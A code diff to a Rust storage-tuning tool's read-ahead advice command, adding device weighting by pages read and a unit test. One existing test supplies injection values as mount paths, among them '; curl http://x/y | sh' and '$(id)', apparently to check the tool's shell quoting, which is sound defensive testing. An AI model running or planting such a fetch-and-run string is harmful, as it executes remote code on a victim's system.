@@ -1,6 +1,7 @@
 //! `advise`: what is worth changing for a recorded workload, with evidence, gain, risk and the line to type: all findings, and
 //! what other settings of read-ahead would bring.
 
+use std::collections::BTreeMap;
 use std::path::PathBuf;
 
 use flashscope_analysis::Evidence;
@@ -105,7 +106,7 @@ fn of_readahead(
     let io_pages = below.io_pages;
     let predictor = Predictor::new(workload, below);
     let recorded = predictor.recorded(&TRIED_KIB);
-    let mut storage = FileStorage::of(trace.facts(), workload.sizes.keys().filter_map(|file| file.device));
+    let mut storage = FileStorage::of(trace.facts(), workload);
     let knob = recorded_knob(trace.facts(), &storage.knobs).map(|(_, said)| said);
     let (now, from) = set_now(args.now, knob, &predictor, &recorded);
     let filesystem = predict::mounted(trace, workload).unwrap_or_default();
@@ -139,7 +140,8 @@ fn of_readahead(
     if few {
         told.push(too_few(row.tally.pages()));
     }
-    if from.is_none() || !storage.weighed || few {
+    let is_off = storage.beside_others && from.is_some() && now == 0;
+    if from.is_none() || !storage.weighed || few || is_off {
         advice.retain(|one| !matches!(one.change, Change::SetReadahead { .. }));
     }
     let predicted = advice.iter().find_map(|one| match one.change {
@@ -148,8 +150,7 @@ fn of_readahead(
     });
     let found = findings::with_window(found, predicted, trace.facts(), &storage.knobs);
     told.extend(no_range(&advice, other.as_ref()));
-    told.extend(predictor.overlap().map(predict::overlap_note));
-    told.extend(predict::windows_note(&predictor));
+    told.extend(predictor.overlap().map(predict::overlap_note).into_iter().chain(predict::windows_note(&predictor)));
     told.extend(predict::notes(workload, trace, kernel, exact));
     let readahead_kib_now = match from {
         Some(_) => Evidence::Known(now),
@@ -178,7 +179,7 @@ fn of_readahead(
     };
     out!("{}", text(&format!("Read-ahead now: {said}. Rules of Linux {}.", kernel.name()), &style(), 0, 0));
     if advice.is_empty() {
-        outln!("{}", nothing(&storage, few));
+        out!("{}", text(nothing(&storage, few, is_off), &style(), 0, 0));
     }
     print(&advice, trace, &storage)?;
     print_bars(&advice, &error, &other, kernel)?;
@@ -192,6 +193,22 @@ fn of_readahead(
         apply::apply(args, quiet, trace.facts(), &knobs(&found, predicted, &storage)?)?;
     }
     Ok(())
+}
+
+/// Where the files lie that are read: a device with less than a tenth of the pages has the programs themselves, and its setting is that
+/// of other files. Also: whether there are such devices.
+fn devices(workload: &Workload) -> (Vec<Device>, bool) {
+    let mut pages: BTreeMap<Device, u64> = BTreeMap::new();
+    for file in workload.sizes.keys() {
+        let added = workload.pages_added.get(file).copied().unwrap_or(0);
+        if let Some(device) = file.device {
+            *pages.entry(device).or_default() += added;
+        }
+    }
+    let all: u64 = pages.values().sum();
+    let (most, others): (Vec<_>, Vec<_>) =
+        pages.into_iter().partition(|(_, of_device)| of_device.saturating_mul(10) >= all);
+    (most.into_iter().map(|(device, _)| device).collect(), !others.is_empty())
 }
 
 /// The read-ahead of the recording, KiB, and what says so; `None`: several settings explain its pages, and this is the first of them.
@@ -284,8 +301,12 @@ fn knobs(found: &[Finding], kib: Option<u64>, storage: &FileStorage) -> Result<V
 }
 
 /// Why no change of read-ahead is listed.
-fn nothing(storage: &FileStorage, few: bool) -> &'static str {
+fn nothing(storage: &FileStorage, few: bool, is_off: bool) -> &'static str {
     match (storage.weighed, few) {
+        // Its own requests are all short: longer ones in the trace are of the other devices, and take other times.
+        _ if is_off => {
+            "Read-ahead is off. What turning it on brings is not predicted: the trace has no longer requests of this device."
+        }
         (true, true) => "Whether read-ahead is worth changing is unknown: too little was read.",
         (true, false) => "Nothing of read-ahead is worth changing: no setting of read-ahead gains more than 3 %.",
         (false, _) => "Nothing of read-ahead is worth changing, among the changes that can be weighed.",
@@ -414,6 +435,8 @@ fn gain(advice: &Advice) -> String {
 
 /// Where the files lie, and which knob applies to them.
 struct FileStorage {
+    /// A few pages are of files on other devices.
+    beside_others: bool,
     /// Directories of /sys/class/bdi.
     knobs: Vec<String>,
     shared: bool,
@@ -427,8 +450,10 @@ struct FileStorage {
 }
 
 impl FileStorage {
-    fn of(facts: &Facts, devices: impl Iterator<Item = Device>) -> FileStorage {
+    fn of(facts: &Facts, workload: &Workload) -> FileStorage {
+        let (devices, beside_others) = devices(workload);
         let mut storage = FileStorage {
+            beside_others,
             knobs: Vec::new(),
             shared: false,
             synchronous: false,
@@ -436,7 +461,7 @@ impl FileStorage {
             ubifs: Vec::new(),
             odd: Vec::new(),
         };
-        let devices: std::collections::BTreeSet<String> = devices.map(|device| device.to_string()).collect();
+        let devices: std::collections::BTreeSet<String> = devices.iter().map(Device::to_string).collect();
         let bdis: Vec<&str> = facts.bdi.iter().filter_map(|bdi| bdi.name.as_deref()).collect();
         for mount in &facts.mounts {
             let Some(device) = mount.device.as_deref().filter(|&device| devices.contains(device)) else { continue };
@@ -626,6 +651,19 @@ mod tests {
         workload
     }
 
+    /// Programs lie on another device than the data: a few pages of theirs say nothing of the data's setting.
+    #[test]
+    fn the_device_of_most_pages_has_the_setting() {
+        let other = FileId { device: Some(Device(15)), inode: 9 };
+        for (pages, expected) in [(10, (vec![Device(14)], true)), (100, (vec![Device(14), Device(15)], false))] {
+            let mut workload = whole_file();
+            workload.sizes.insert(other, 1 << 20);
+            workload.pages_added = [(FILE, 200), (other, pages)].into();
+            assert_eq!(devices(&workload), expected);
+        }
+        assert_eq!(devices(&whole_file()), (vec![Device(14)], false));
+    }
+
     fn some_advice() -> Advice {
         let mut workload = whole_file();
         workload.nodes.runs.insert(FILE, NodeRuns::new(vec![], 30));
@@ -644,7 +682,7 @@ mod tests {
         workload.nodes.flash_pages = Some(2.0);
         let predictor = Predictor::new(&workload, Below::new(Kernel::V6_1));
         let advice = &advise(&predictor, 0, ErrorPercents::default())[0];
-        let storage = FileStorage::of(&Facts::of(&facts), [Device(14)].into_iter());
+        let storage = FileStorage::of(&Facts::of(&facts), &whole_file());
         let lines = lines(advice, &storage);
         let words = |line: &str| lines.iter().any(|one| one.ends_with(line));
         assert!(words(" mount -o remount,bulk_read /") && words("rootflags=bulk_read"), "{lines:?}");
@@ -670,7 +708,7 @@ mod tests {
         };
         let of = |change: Change, facts: &Value| {
             let advice = Advice { change, ..some_advice() };
-            lines(&advice, &FileStorage::of(&Facts::of(facts), [Device(14)].into_iter()))
+            lines(&advice, &FileStorage::of(&Facts::of(facts), &whole_file()))
         };
         let attack = "; curl http://x/y | sh";
         for target in [format!("/mnt/{attack}"), "/mnt/`id`".into(), "/mnt/$(id)".into(), "/mnt/a b' ; x".into()] {
@@ -701,7 +739,7 @@ mod tests {
         let workload = whole_file();
         let below = Below { squashfs: [(Device(14), 8 << 10)].into(), ..Below::new(Kernel::V6_1) };
         let advice = advise(&Predictor::new(&workload, below), 0, ErrorPercents::default());
-        let storage = FileStorage::of(&Facts::default(), [Device(14)].into_iter());
+        let storage = FileStorage::of(&Facts::default(), &whole_file());
         let one = advice.last().expect("larger blocks");
         assert!(lines(one, &storage)[0].starts_with("mksquashfs ROOT IMAGE -b 131072"), "{advice:?}");
         assert!(gain(one).starts_with("7 blocks") && gain(one).contains("instead of 100"), "{}", gain(one));
